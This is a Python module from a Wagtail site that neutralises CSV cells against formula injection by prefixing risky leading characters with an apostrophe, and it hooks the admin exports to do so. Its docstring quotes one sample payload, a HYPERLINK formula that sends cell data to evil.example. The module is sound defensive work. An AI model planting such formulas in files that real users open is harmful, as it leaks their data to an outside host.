"""CSV cells a spreadsheet will not run (CSV injection).

Excel, LibreOffice and Google Sheets treat a cell that begins with ``=``, ``+``, ``-`` or
``@`` as a formula, and a leading tab or carriage return can hide one; a page title or a
visitor's search term such as ``=HYPERLINK("https://evil.example/?"&A1, "Click")`` would
run on the computer of whoever opens the file. ``neutralise`` prefixes such a cell with
``'`` (OWASP's advice: the apostrophe makes the cell text and is not shown as part of it).

Every CSV the site writes goes through it: the open data downloads of the listings
(``thet_site/opendata.py``) and the Wagtail admin's own exports (reports, listings),
which ``guard_admin_exports`` hooks at start-up. Base layer: no feature app imported.
"""

from __future__ import annotations

from typing import TypeVar

from thet_site.wagtail_compat import transform_csv_export_cells

T = TypeVar("T")

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: T) -> T | str:
    """``value`` made safe as a CSV cell: text that a spreadsheet would read as a formula
    gets a leading ``'``; anything else (numbers, dates, None, other text) is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def unneutralise(value: str) -> str:
    """The text of a cell that ``neutralise`` wrote: its added ``'`` removed again, so a
    file downloaded from the site reads back as what it held. Other cells, including a
    leading ``'`` before anything else, are unchanged."""
    if value.startswith("'") and value[1:2] and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def guard_admin_exports() -> None:
    """Neutralise every cell of the Wagtail admin's CSV exports (reports, listings,
    form submissions); Excel files (``xlsx``) are left alone, Wagtail already stores
    their cells as text. Called once at start-up (``ThetSiteConfig``); the one upstream
    method it wraps is named in ``thet_site/wagtail_compat.py``, where an upgrade that
    changes it is caught."""
    transform_csv_export_cells(neutralise)
